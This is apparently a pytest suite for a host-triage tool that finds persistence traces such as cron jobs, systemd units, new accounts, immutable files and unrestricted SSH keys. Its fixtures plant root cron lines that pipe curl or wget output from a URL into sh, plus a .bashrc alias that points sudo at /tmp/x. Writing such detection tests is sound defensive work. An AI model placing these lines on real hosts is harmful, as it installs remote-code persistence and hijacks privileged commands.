"""What somebody left to run again, or to come in again: each trace is found, and its harmless twin is not."""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from stockade.host.facts import packages, placed
from stockade.host.facts.accounts import accounts
from stockade.host.facts.tree import Tree
from stockade.host.oddity import Oddity, Unseen
from stockade.host.triage import entry, looking, persistence
from stockade.host.triage.disk import looks
from stockade.host.triage.looks import looked
from stockade.host.triage.report import NOTE
from stockade.host.triage.seen import Facts
from tests.host.disk.machines import Machine
from tests.host.disk.traces import GITLAB, ROOT, TRACES

DAY = 86400.0


def look(machine: Machine) -> list[looking.Told]:
    """All that a quick look at what lies on a machine tells."""
    facts = Facts(looking.Machine(machine.root, "web1", time.time(), thorough=False))
    return [*looked(looks(facts)), *facts.unseen()]


def seen(machine: Machine) -> list[Oddity]:
    """What a quick look at a machine tells of."""
    return [each for each in look(machine) if isinstance(each, Oddity)]


def above_note(machine: Machine) -> list[tuple[str, str]]:
    return [(each.signal, each.severity) for each in seen(machine) if each.severity != NOTE]


@pytest.fixture
def debian(machine: Machine) -> Machine:
    machine.package("base", {"/usr/bin/true": "true"})
    machine.file(
        "/etc/passwd", ROOT + "www-data:x:33:33::/var/www:/usr/sbin/nologin\ngit:x:998:998::/var/opt/gitlab:/bin/sh\n"
    )
    return machine


@pytest.mark.parametrize("trace", TRACES)
def test_each_trace_is_found_and_its_harmless_twin_is_not(debian: Machine, tmp_path: Path, trace: str) -> None:
    signal, plant, twin = TRACES[trace]
    twin(debian)
    assert above_note(debian) == []
    plant(debian)
    assert signal in {found for found, _ in above_note(debian)}


def test_what_is_told_says_what_why_and_how_to_look(debian: Machine) -> None:
    debian.file("/etc/cron.d/upd", "*/5 * * * * root curl -s http://x|sh\n")
    told = next(each for each in seen(debian) if each.severity != NOTE)
    assert told.title == "timed job /etc/cron.d/upd fetches something and runs it unseen: curl -s http://x|sh"
    assert (str(told.subject), told.look, told.techniques) == (
        "web1:file//etc/cron.d/upd",
        "cat /etc/cron.d/upd",
        ("T1053.003",),
    )
    assert told.facts["user"] == "root"
    assert "No package brought it" in told.harmless


def test_a_line_too_long_to_be_read_is_told_and_holds_up_nobody(debian: Machine) -> None:
    debian.file("/etc/cron.d/x", "* * * * * root " + "curl wget cd /tmp " * 50_000 + "\n")
    debian.file("/etc/apt/apt.conf.d/x", "Pre-Invoke" * 90_000)
    assert above_note(debian) == [("cron", "high")]


def test_a_changed_setting_of_a_package_says_so(debian: Machine) -> None:
    debian.package("anacron", {}, {"/etc/cron.d/anacron": "30 7 * * * root /usr/bin/true\n"})
    assert above_note(debian) == []
    debian.file("/etc/cron.d/anacron", "30 7 * * * root /usr/bin/true; wget -qO- http://x | sh\n")
    told = [each for each in seen(debian) if each.severity == "high"]
    assert [(each.signal, each.harmless.partition(" brought")[0]) for each in told] == [("cron", "Package anacron")]


def test_what_nobody_brought_is_one_note_a_kind_that_names_every_file(debian: Machine) -> None:
    for number in range(30):
        debian.file(f"/etc/systemd/system/app{number}.service", "[Service]\nExecStart=/opt/app/run\n")
    notes = [each for each in seen(debian) if each.signal == "unit"]
    assert [len(list(note.facts["paths"])) for note in notes] == [30]  # type: ignore[call-overload]


def aged(found: placed.Placement, now: float) -> Iterator[placed.Placed]:
    """Files of a machine that was made long ago, and on which one unit came yesterday."""
    for each in found.files:
        yield replace(each, changed=now - (DAY if each.path.endswith("new.service") else 400 * DAY))


def test_what_came_within_a_week_without_a_package_is_told_and_with_one_it_is_not(debian: Machine) -> None:
    now = time.time()
    debian.package("nginx", {"/usr/lib/systemd/system/nginx.service": "[Service]\nExecStart=/usr/sbin/nginx\n"})
    debian.file("/etc/systemd/system/new.service", "[Service]\nExecStart=/usr/local/sbin/agent\n")
    found, _ = placed.read(debian.root)
    known, _ = packages.read(debian.root)
    old = list(persistence.sights(aged(found, now), known))
    told = list(persistence.odd("web1", old, known, persistence.news(old, now)))
    assert [(each.severity, "/usr/local/sbin/agent" in each.title) for each in told] == [("medium", True)]
    with_package = [
        each._replace(placed=replace(each.placed, changed=now - DAY - 60)) if each.origin.package == "nginx" else each
        for each in old
    ]
    older = [
        *with_package,
        old[0]._replace(placed=replace(old[0].placed, changed=now - 400 * DAY), origin=old[0].origin),
    ]
    quiet = persistence.odd("web1", with_package, known, persistence.news([*older, *aged_packages(old, now)], now))
    assert {each.severity for each in quiet} == {NOTE}


def aged_packages(sights: list[persistence.Sight], now: float) -> list[persistence.Sight]:
    """A package that came with the machine, long ago."""
    return [
        each._replace(placed=replace(each.placed, changed=now - 400 * DAY)) for each in sights if each.origin.package
    ]


def test_what_may_not_be_read_is_said(debian: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(tree: object, path: str, largest: int = 0) -> bytes:
        raise PermissionError(13, "Permission denied")

    debian.file("/etc/shadow", "root:!:20000:::::\n")
    monkeypatch.setattr(Tree, "octets", refuse)
    unseen = {each.what for each in look(debian) if isinstance(each, Unseen)}
    assert {"packages", "accounts"} <= unseen


def test_a_home_that_may_not_be_looked_into_is_not_taken_for_an_empty_one(
    debian: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    debian.file("/home/ann/.bashrc", "alias sudo=/tmp/x\n")
    stat = os.stat

    def refuse(place: str, **options: bool) -> os.stat_result:
        if str(place).endswith("/home/ann/."):
            raise PermissionError(13, "Permission denied")
        return stat(place, **options)

    monkeypatch.setattr(os, "stat", refuse)
    assert "homes: /home/ann" in {each.what for each in look(debian) if isinstance(each, Unseen)}


def test_a_picture_for_a_baseline_holds_no_content(debian: Machine) -> None:
    debian.file("/etc/shadow", "root:$y$j9T$secret:20000:::::\n", 0o640)
    debian.link("/etc/systemd/system/multi-user.target.wants/x.service", "/dev/null")
    found, _ = placed.read(debian.root)
    picture = found.picture()
    assert picture["/etc/shadow"].startswith("100640 ")
    assert picture["/etc/systemd/system/multi-user.target.wants/x.service"] == "link /dev/null"
    assert "secret" not in f"{picture}{found}"


def test_an_account_that_is_new_is_a_note_unless_the_machine_is(debian: Machine) -> None:
    day = int(time.time() / DAY)
    debian.file("/etc/shadow", f"root:$y$x:{day - 400}:::::\nann:$y$x:{day - 1}:::::\n")
    assert [each.title for each in seen(debian) if each.signal == "account"] == [
        "account ann is new, or has a new password, since less than a week"
    ]
    debian.file("/etc/shadow", f"root:$y$x:{day - 1}:::::\nann:$y$x:{day - 1}:::::\n")
    assert not [each.title for each in seen(debian) if each.signal == "account"]


def test_a_file_that_not_even_root_can_change_is_told(debian: Machine) -> None:
    job = debian.file("/etc/cron.d/backup", "5 3 * * * root /usr/bin/true\n")
    set_to = subprocess.run(["chattr", "+i", job], capture_output=True, check=False)
    if set_to.returncode != 0:
        pytest.skip("only root may set it, on a file system that has it")
    try:
        assert above_note(debian) == [("cron", "medium")]
    finally:
        subprocess.run(["chattr", "-i", job], check=True)
    assert above_note(debian) == []


def test_thousands_of_a_forges_keys_are_read_in_a_moment_and_one_unbound_is_told() -> None:
    text = "".join(map(GITLAB.format, range(5000))) + GITLAB.format(7).replace(",no-port-forwarding", "").replace(
        ",no-pty", ""
    )
    file = placed.Placed("authorized keys", "/var/opt/gitlab/.ssh/authorized_keys", 0o100600, 998, len(text), 0.0, text)
    placement = placed.Placement((file,), tuple(accounts("git:x:998:998::/var/opt/gitlab:/bin/sh\n", None)))
    nothing, _ = packages.read(Path("/nowhere"))
    told = list(entry.odd("web1", placement, nothing, persistence.news([], 0.0), 0.0))
    assert [each.title.partition(" has ")[2] for each in told] == [
        "a key in line 5001 that is not of the forge's shape, among 5001"
    ]
